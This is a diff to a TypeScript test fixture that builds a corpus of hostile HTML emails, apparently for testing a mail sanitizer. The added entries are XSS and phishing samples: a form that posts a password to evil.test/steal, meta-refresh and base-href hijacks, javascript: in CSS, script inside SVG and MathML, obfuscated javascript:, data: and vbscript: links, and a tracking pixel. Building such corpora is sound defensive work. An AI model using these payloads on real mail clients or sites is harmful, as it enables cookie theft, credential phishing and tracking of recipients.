@@ -94,6 +94,39 @@ export function hostileCorpus(): HostileMail[] {
     { name: "javascript: links", data: html("Links", '<a href="javascript:alert(document.cookie)">Open</a>') },
     { name: "event handlers", data: html("Handlers", '<img src="x" onerror="alert(1)"><svg onload="alert(2)">') },
     {
+      name: "frames, forms and objects",
+      data: html(
+        "Embedded",
+        '<iframe src="https://evil.test/"></iframe><form action="https://evil.test/steal"><input name="password">' +
+          '<button>Log in</button></form><object data="https://evil.test/x.swf"></object><embed src="x.swf">',
+      ),
+    },
+    {
+      name: "refresh, base and meta tricks",
+      data: html(
+        "Moving",
+        '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">' +
+          '<link rel="stylesheet" href="https://evil.test/x.css"><a href="/relative">Relative</a>',
+      ),
+    },
+    {
+      name: "script in CSS, SVG and MathML",
+      data: html(
+        "Styled",
+        '<style>body{background:url("javascript:alert(1)")}</style><div style="background-image:url(https://evil.test/t.gif);' +
+          'width:expression(alert(2))">x</div><svg><script>alert(3)</script></svg><math><mtext><script>alert(4)</script></mtext></math>',
+      ),
+    },
+    {
+      name: "links in disguise",
+      data: html(
+        "Disguised",
+        '<a href=" jav&#x09;ascript:alert(1)">Tab</a><a href="data:text/html,<script>alert(2)</script>">Data</a>' +
+          '<a href="vbscript:msgbox(3)">VB</a><img srcset="https://evil.test/a.gif 1x" src="cid:none@x">' +
+          '<p>Caf\u00e9 <img src="https://tracker.test/open.gif" width="1" height="1"></p>',
+      ),
+    },
+    {
       name: "a script in an SVG attachment",
       data: withAttachment(
         "SVG",
